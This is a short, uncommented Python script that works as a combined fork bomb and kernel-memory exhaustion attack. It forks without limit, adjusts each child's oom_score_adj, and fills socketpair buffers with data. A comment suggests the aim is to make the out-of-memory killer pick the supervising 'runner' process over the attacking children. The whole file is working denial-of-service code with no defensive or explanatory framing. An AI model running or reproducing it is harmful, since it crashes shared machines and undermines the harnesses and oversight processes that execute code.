import os
import socket
import time


def lower_score():
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("0")
    except OSError:
        pass


def hold():
    lower_score()
    # All are there, and small, before any takes memory: then the runner is not the smallest.
    time.sleep(0.5)
    held = []
    try:
        while True:
            pair = socket.socketpair()
            held.append(pair)
            for end in pair:
                end.setblocking(False)
                try:
                    while True:
                        end.send(b"x" * 65536)
                except BlockingIOError:
                    pass
    except OSError:
        pass
    time.sleep(60)


try:
    while True:
        if os.fork() == 0:
            hold()
except OSError:
    hold()
